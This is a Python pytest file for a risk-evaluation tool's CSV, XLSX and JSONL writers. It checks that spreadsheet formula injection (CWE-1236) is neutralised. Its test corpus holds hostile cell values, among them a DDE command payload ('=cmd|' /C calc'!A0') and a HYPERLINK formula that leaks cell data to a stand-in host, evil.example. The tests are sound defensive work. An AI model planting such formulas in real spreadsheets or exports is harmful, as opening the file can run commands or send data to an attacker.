"""Formula injection (CWE-1236): an injection corpus through every CSV/XLSX writer.

No workbook cell is a formula; every text cell that begins with ``=``, ``+``, ``-``, ``@``, tab or carriage
return is neutralised (``'`` prefix in CSV, a quote-prefixed text cell in XLSX); numbers stay numbers.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from riskeval.batch import OUTPUT_COLUMNS, BatchStats, open_writer
from riskeval.batch.run import run_batch
from riskeval.batch.runner import BatchRow

CORPUS = [
    "=cmd|' /C calc'!A0",
    "+1",
    "-2",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=1+1",
]
HARMLESS = ["＝1", "P-1", "项目一"]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def xlsx_cells(path: Path) -> list[Any]:
    from openpyxl import load_workbook

    wb = load_workbook(path)
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def assert_safe_xlsx(path: Path) -> list[Any]:
    cells = xlsx_cells(path)
    assert cells
    for cell in cells:
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str) and cell.value[:1] in DANGEROUS:
            assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)
    return cells


def csv_cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


NUMERIC = {"row", "initial_score", "residual_score", "old_residual_score", "new_residual_score"}


def assert_safe_csv(path: Path) -> list[list[str]]:
    """No text cell begins with a dangerous character; a numeric column may hold a negative number."""
    rows = csv_cells(path)
    header = rows[0]
    for row in rows:
        for name, cell in zip(header, row, strict=True):
            if cell[:1] in DANGEROUS:
                assert name in NUMERIC, (name, cell)
                float(cell)  # a number, which no spreadsheet runs
    return rows


def corpus_rows() -> list[dict[str, Any]]:
    rows = []
    for i, text in enumerate(CORPUS + HARMLESS, start=1):
        rows.append(
            {
                "row": i,
                "id": text,
                "status": "ok",
                "initial_level": "high",
                "initial_score": -2.5,
                "residual_level": text,
                "residual_score": 3,
                "decision": text,
                "incomplete": False,
                "findings": [text, "B"],
                "error": text,
            }
        )
    return rows


@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".jsonl"])
def test_table_writer(tmp_path, suffix):
    path = tmp_path / f"out{suffix}"
    with open_writer(path, list(OUTPUT_COLUMNS)) as writer:
        for row in corpus_rows():
            writer.write(row)
    n = len(CORPUS) + len(HARMLESS)
    if suffix == ".csv":
        rows = assert_safe_csv(path)
        assert len(rows) == n + 1
        ids = [r[1] for r in rows[1:]]
        assert ids[: len(CORPUS)] == ["'" + text for text in CORPUS]
        assert ids[len(CORPUS) :] == HARMLESS  # full-width ＝ and ordinary text stay as they are
        assert [(r[0], r[4], r[6]) for r in rows[1:3]] == [("1", "-2.5", "3"), ("2", "-2.5", "3")]  # numbers
        assert rows[1][9] == "'=cmd|' /C calc'!A0;B"
    elif suffix == ".xlsx":
        cells = assert_safe_xlsx(path)
        by_coord = {c.coordinate: c for c in cells}
        assert [by_coord[f"B{i}"].value for i in range(2, n + 2)] == CORPUS + HARMLESS
        assert by_coord["A2"].value == 1 and by_coord["E2"].value == -2.5 and by_coord["G2"].value == 3
        assert {by_coord["A2"].data_type, by_coord["E2"].data_type} == {"n"}
    else:  # JSON Lines is data for programs: values stay exact and typed
        got = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
        assert [g["id"] for g in got] == CORPUS + HARMLESS and got[0]["initial_score"] == -2.5


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_batch_results_from_hostile_ids(tmp_path, jiangsu, good_facts, suffix):
    src = tmp_path / "in.csv"
    with src.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["id", "name", *good_facts])
        for text in CORPUS + HARMLESS:
            writer.writerow([text, text, *("是" if v is True else "否" if v is False else v for v in good_facts.values())])
    out = tmp_path / f"out{suffix}"
    outcome = run_batch(src, jiangsu, out, workers=0)
    assert outcome.written == len(CORPUS) + len(HARMLESS)
    if suffix == ".csv":
        rows = assert_safe_csv(out)
        assert rows[1][1] == "'=cmd|' /C calc'!A0" and rows[3][1] == "'-2"
        assert [r[2] for r in rows[1:]] == ["ok"] * outcome.written
    else:
        cells = assert_safe_xlsx(out)
        ids = [c.value for c in cells if c.column == 2 and c.row > 1]
        assert ids[0] == "=cmd|' /C calc'!A0" and ids[2] == "-2"
        assert all(isinstance(c.value, int) for c in cells if c.column == 1 and c.row > 1)


def test_excel_report(tmp_path, jiangsu):
    from riskeval.report.xlsx import write_xlsx_report

    stats = BatchStats(jiangsu)
    for i, text in enumerate(CORPUS, start=1):
        stats.add(
            BatchRow(
                i, text, "ok", "high", 9.0, "high", -2.0, "reject", False, ["JS-CTL-1"],
                name=text, kind=text, unit=text, explanation=text,
            )
        )
        stats.add(BatchRow(100 + i, text, "error", error=text))
    path = write_xlsx_report(tmp_path / "r.xlsx", stats, ruleset=jiangsu, source="=evil.csv")
    cells = assert_safe_xlsx(path)
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert "=cmd|' /C calc'!A0" in texts and "=evil.csv" in texts
    assert any(isinstance(c.value, int | float) and not isinstance(c.value, bool) for c in cells)


def test_rule_table(tmp_path, monkeypatch, jiangsu):
    from riskeval.report import ruletable

    real = ruletable.rule_rows(jiangsu)
    monkeypatch.setattr(ruletable, "rule_rows", lambda rs: [*real, list(CORPUS) + ["x"]])
    path = tmp_path / "rules.xlsx"
    ruletable.rules_xlsx(SimpleNamespace(title="=HYPERLINK(\"x\")"), path)  # type: ignore[arg-type]
    cells = assert_safe_xlsx(path)
    assert cells[0].value == '=HYPERLINK("x")' and cells[0].quotePrefix


def test_impact_changes_file(tmp_path, jiangsu, good_facts):
    from riskeval.batch.diff import IMPACT_COLUMNS, impact

    rows = [{"id": text, **good_facts, "opposition_rate": 60} for text in CORPUS]
    path = tmp_path / "changes.csv"
    with open_writer(path, IMPACT_COLUMNS, sheet="changes") as writer:
        for _, _, change in impact(jiangsu, jiangsu, rows, workers=0):
            assert change is None  # the same rule set: nothing changes
        writer.write({c: text for c, text in zip(IMPACT_COLUMNS, CORPUS * 3, strict=False)})
    rows_out = assert_safe_csv(path)
    assert rows_out[1][0] == "'" + CORPUS[0]
